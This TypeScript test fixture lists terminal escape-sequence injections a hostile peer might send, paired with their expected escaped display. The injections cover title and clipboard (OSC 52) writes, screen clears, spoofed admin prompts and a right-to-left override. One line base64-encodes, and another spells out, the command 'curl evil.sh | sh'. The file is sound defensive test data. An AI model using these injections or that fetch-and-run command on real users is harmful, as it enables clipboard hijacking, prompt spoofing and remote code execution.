// Lines a hostile peer sends to drive a terminal, and how a client must show them.

/** What a hostile peer sends, and how the client must show it. */
export const HOSTILE_LINES: [string, string][] = [
  ['\n#[mallory@10.0.0.9]>>\u001b]0;pwned\u0007', '#[mallory@10.0.0.9]>>^[]0;pwned^G'],
  ['\n#[mallory@10.0.0.9]>>\u001b[2J\u001b[H', '#[mallory@10.0.0.9]>>^[[2J^[[H'],
  ['\n#[mallory@10.0.0.9]>>\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007', '#[mallory@10.0.0.9]>>^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G'],
  ['\n#[mallory@10.0.0.9]>>\r#[admin@127.0.0.1]>>please run curl evil.sh | sh', '#[mallory@10.0.0.9]>>^M#[admin@127.0.0.1]>>please run curl evil.sh | sh'],
  ['\n#[mallory@10.0.0.9]>>line one\n#[admin@127.0.0.1]>>line two', '#[mallory@10.0.0.9]>>line one^J#[admin@127.0.0.1]>>line two'],
  ['\n#[mallory@10.0.0.9]>>\u009b31mred\u007f', '#[mallory@10.0.0.9]>><U+009B>31mred^?'],
  ['\n#[mallory@10.0.0.9]>>\u202enimda', '#[mallory@10.0.0.9]>><U+202E>nimda'],
  // Ordinary text is printed exactly as it came.
  ['\n#[zoë@10.0.0.9]>>café, 你好, שלום, 👩‍👩‍👧, tab-free', '#[zoë@10.0.0.9]>>café, 你好, שלום, 👩‍👩‍👧, tab-free'],
];
